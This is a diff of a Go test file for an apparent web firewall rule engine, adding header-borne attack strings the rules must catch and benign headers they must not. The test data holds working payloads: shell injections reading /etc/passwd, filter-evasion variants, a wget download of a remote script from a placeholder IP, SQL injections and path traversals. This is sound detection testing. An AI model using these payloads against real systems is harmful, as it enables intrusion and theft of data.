@@ -42,7 +42,10 @@ func headerReq(plan rules.Plan, h map[string]string) *rules.Request {
 func TestAttacksInAnyHeader(t *testing.T) {
 	cases := map[string][]string{
 		ClassXSS: {"<svg/onload=alert(1)>", url.QueryEscape("<iframe src=x>"), `x" onmouseover="alert(2)`, "javascript:void(document.cookie)"},
-		ClassRCE: {"() { :; }; echo vulnerable", "$(id)", "x | /bin/sh", "1; wget -q http://203.0.113.9/a.sh", "a && cat /etc/hostname"},
+		ClassRCE: {"() { :; }; echo vulnerable", "$(id)", "x | /bin/sh", "1; wget -q http://203.0.113.9/a.sh", "a && cat /etc/hostname",
+			";id", "x|whoami", "a && uname -a", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", ";/???/c?t x", ";c''at x", ";w'h'o'am'i", ";cat</etc/passwd", ";sleep 5"},
+		ClassSQLi: {"1' UNION SELECT password FROM users--", "x' OR '1'='1", "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", url.QueryEscape("1' or 1=1-- -")},
+		ClassLFI:  {"../../../../etc/passwd", `..\..\windows\win.ini`, "php://filter/resource=index.php", url.QueryEscape("/proc/self/environ")},
 	}
 	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
 		for class, vs := range cases {
@@ -53,8 +56,8 @@ func TestAttacksInAnyHeader(t *testing.T) {
 				}
 			}
 		}
-		for _, name := range []string{"<script>alert(1)</script>", "javascript:alert(1)", "$(id)", "x | /bin/sh"} {
-			for _, class := range []string{ClassXSS, ClassRCE} {
+		for _, name := range []string{"<script>alert(1)</script>", "javascript:alert(1)", "$(id)", "x | /bin/sh", "x'--", "a' OR '1'='1", "../../etc/passwd"} {
+			for _, class := range []string{ClassXSS, ClassRCE, ClassSQLi, ClassLFI} {
 				if compileFor(t, class, plan, Fields{}).Eval(headerReq(plan, map[string]string{"Cookie": name + "=1; session=abc"}), nil) {
 					t.Errorf("%s/%s reads the cookie name %q", class, plan, name)
 				}
@@ -73,9 +76,11 @@ func TestAttacksInAnyHeader(t *testing.T) {
 		"X-Request-Id":  "6f1c9a2e-3b7d-4d0e-9a51-0c2f8e7b1d44", "If-None-Match": `W/"5e-1a2b3c"`,
 		"X-Forwarded-Proto": "https", "Link": `<https://www.example.com/style.css>; rel=preload; as=style`,
 		"Content-Disposition": `attachment; filename="report; final.pdf"`, "X-Note": "ping me; cat photos are great",
+		"X-Comment": `She said "it's fine" -- and left; time to go`, "Baggage": "userId=alice,isProduction=false;sampled=1",
+		"Forwarded": "for=192.0.2.60;proto=https;by=203.0.113.43", "X-Path": "/static/app/main.js", "Prefer": "return=minimal; handling=lenient",
 	}
 	for _, plan := range []rules.Plan{rules.PlanBusiness, rules.PlanEnterprise} {
-		for _, class := range []string{ClassXSS, ClassRCE} {
+		for _, class := range []string{ClassXSS, ClassRCE, ClassSQLi, ClassLFI} {
 			if compileFor(t, class, plan, Fields{}).Eval(headerReq(plan, benign), nil) {
 				t.Errorf("%s/%s matches ordinary headers", class, plan)
 			}
